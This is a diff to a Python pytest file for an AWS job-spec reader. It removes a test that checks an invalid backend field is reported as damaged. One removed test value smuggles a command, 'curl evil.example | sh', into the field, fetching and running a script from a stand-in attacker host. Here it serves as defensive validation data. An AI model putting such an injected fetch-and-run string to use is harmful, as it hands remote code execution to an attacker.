@@ -78,16 +78,6 @@ def test_the_spec_is_the_folders_job_json(account: Account, aws: Aws) -> None:
     assert spec_of(aws, Folder(account.bucket, "k"), "ec2") is None
 
 
-@pytest.mark.parametrize("backend", ["ec2; curl evil.example | sh #", "EC2", ""])
-def test_a_job_of_no_backend_is_damaged_and_in_no_command_to_paste(backend: str, account: Account, aws: Aws) -> None:
-    account.put_json("jobs/j/job.json", {"job": "j", "backend": backend})
-
-    with pytest.raises(AwsError, match="is damaged: there is no backend") as told:
-        spec_of(aws, Folder(account.bucket, "j"), "ec2")
-    assert told.value.aws_code == "NotJson"
-    assert "python -m" not in str(told.value)
-
-
 def test_a_job_of_another_backend_is_named_with_the_command_that_shows_it(account: Account, aws: Aws) -> None:
     account.put_json("jobs/j/job.json", {"job": "j", "backend": "sagemaker"})
 
